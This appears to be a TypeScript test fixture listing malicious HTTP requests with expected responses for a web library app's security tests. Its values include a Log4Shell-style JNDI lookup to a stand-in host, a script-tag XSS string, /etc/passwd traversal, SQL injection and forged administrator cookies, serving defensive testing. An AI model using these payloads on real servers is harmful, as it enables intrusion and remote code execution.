import { paths } from '../../../src/paths.ts';
import { type Hostile, PAPER } from './entry.ts';

const LIBRARY = paths.documents();
const ORIGINAL = paths.original(PAPER);

const read = (what: string, headers: Record<string, string>, path = LIBRARY): Hostile => ({
  what: `a request with ${what}`,
  by: 'person',
  path,
  init: { headers },
  status: 200,
});
const cookie = (what: string, value: string): Hostile => ({
  what: `a cookie that is ${what}`,
  by: 'nobody',
  path: LIBRARY,
  init: { headers: { cookie: value } },
  status: 302,
});
const by = (method: string, path: string, status: number, says?: string): Hostile => ({
  what: `${method} of ${path}`,
  by: 'person',
  path,
  init: { method, headers: { origin: 'http://localhost' } },
  status,
  ...(says ? { says } : {}),
});
const NOTHING = 'Không có gì ở địa chỉ này';

export const hostileHeaders: Hostile[] = [
  read('another host', { host: 'evil.example' }),
  read('another host reported', {
    'x-forwarded-host': 'evil.example',
    'x-forwarded-proto': 'https',
  }),
  read('another host in Forwarded', { forwarded: 'host=evil.example;proto=https' }),
  read('another address reported', {
    'x-original-url': '/administration',
    'x-rewrite-url': '/people',
  }),
  read('a host of another port', { host: 'localhost:1@evil.example' }),
  read('an address list of 10,000 signs', { 'x-forwarded-for': '1.2.3.4, '.repeat(1_200) }),
  read('the method in a header', {
    'x-http-method-override': 'DELETE',
    'x-method-override': 'DELETE',
  }),
  read('a browser of 8,000 signs', { 'user-agent': 'x'.repeat(8_000) }),
  read('a browser that is a script', { 'user-agent': '<script>alert(1)</script>' }),
  read('a browser that is a lookup', { 'user-agent': '${' + 'jndi:ldap://evil.example/a}' }),
  read('an unknown encoding', { 'accept-encoding': 'evil, gzip;q=abc, *;q=99' }),
  read('an unknown language', { 'accept-language': '../../etc/passwd' }),
  read('an unknown kind', { accept: 'application/x-evil' }),
  read('a part asked of another place', {
    'hx-request': 'true',
    'hx-current-url': 'https://evil.example/',
  }),
  read('a part of an unknown kind', { 'hx-request-type': '__proto__' }),
  read('a tag that is everything', { 'if-none-match': '*' }),
  read('a tag of 8,000 signs', { 'if-none-match': `"${'x'.repeat(8_000)}"` }),
  read('a day that is none', { 'if-modified-since': 'Thu, 99 Foo 9999 99:99:99 GMT' }),
  read('a token for a page', { authorization: `Bearer tm_${'x'.repeat(43)}` }),
  read('a name and password', { authorization: 'Basic a2h1ZTp4' }),
  read('the first bytes of an original', { range: 'bytes=0-10' }, ORIGINAL),
  read('the last byte of an original', { range: 'bytes=-1' }, ORIGINAL),
  read('bytes beyond the end of an original', { range: 'bytes=99999999999999-' }, ORIGINAL),
  read('1,000 ranges of an original', { range: `bytes=${'0-1,'.repeat(1_000)}0-1` }, ORIGINAL),
  read('a range of an original in no unit', { range: 'evil=0-1' }, ORIGINAL),
  read(
    'a range of an original if it is as it was',
    { range: 'bytes=0-1', 'if-range': '"x"' },
    ORIGINAL,
  ),
  read('an original only if it changed', { 'if-none-match': '*' }, ORIGINAL),
  read('an original if it is another', { 'if-match': '"x"' }, ORIGINAL),
  read(
    'an original if it has not changed since',
    { 'if-unmodified-since': 'Thu, 01 Jan 1970 00:00:00 GMT' },
    ORIGINAL,
  ),
  cookie('empty', ''),
  cookie('a session of nothing', 'session='),
  cookie('a session of 16,000 letters', `session=${'x'.repeat(16_000)}`),
  cookie('a NUL', 'session=%00'),
  cookie('badly encoded', 'session=%E0%A4%A'),
  cookie('SQL', `session=${encodeURIComponent("' or 1=1 --")}`),
  cookie('a name of a prototype', '__proto__=1; constructor=1; session=__proto__'),
  cookie('quoted', 'session="a"; session=\'b\''),
  cookie('two sessions', 'session=a; session=b; session=c'),
  cookie('a session of another prefix', '__Host-session=a; __Secure-session=b'),
  cookie('1,000 cookies', Array.from({ length: 1_000 }, (_, at) => `c${at}=1`).join('; ')),
  cookie('only signs', ';;;===;;=a;b=;'),
  cookie('an id of a person', 'session=1; personId=1; role=administrator'),
  cookie('JSON', 'session={"id":1,"role":"administrator"}'),
  by('PUT', LIBRARY, 404, NOTHING),
  by('DELETE', paths.document(PAPER), 404, NOTHING),
  by('PATCH', paths.account(), 404, NOTHING),
  by('OPTIONS', LIBRARY, 404, NOTHING),
  by('PROPFIND', LIBRARY, 404, NOTHING),
  by('EVIL', LIBRARY, 404, NOTHING),
  by('HEAD', LIBRARY, 200),
  by('POST', LIBRARY, 404, NOTHING),
];
